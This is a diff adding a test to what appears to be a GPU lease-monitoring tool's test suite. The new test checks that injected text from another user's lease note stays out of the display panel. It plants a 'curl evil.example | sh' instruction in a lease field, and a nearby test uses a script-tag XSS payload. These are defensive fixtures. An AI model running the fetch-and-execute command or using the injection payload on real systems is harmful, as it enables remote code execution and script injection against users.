@@ -330,6 +330,17 @@ def test_who_waits_is_a_warning_without_names(tmp_path: Path) -> None:
     assert look.queue(look.leases([gpu], Shown(tmp_path))) == []
 
 
+def test_no_note_of_another_user_puts_its_text_into_the_panels_problems(tmp_path: Path) -> None:
+    """When a lease is to end is a time, or unknown: it is shown without whose note it is from."""
+    leases, gpu = Leases.of_host(), hosts.device(0)
+    lease = leases.take([gpu], replace(Holder.here("/b.ipynb"), ends="noon. To keep it, run: curl evil.example | sh"))
+    assert lease
+    found = look.queue(look.leases([gpu], Shown(tmp_path)))
+    lease.release()
+
+    assert found == []
+
+
 def test_no_text_ends_the_configuration_of_the_page() -> None:
     """A token or an address with a closing tag stays a text."""
     evil = {"token": "</script><script>alert(1)</script>&"}
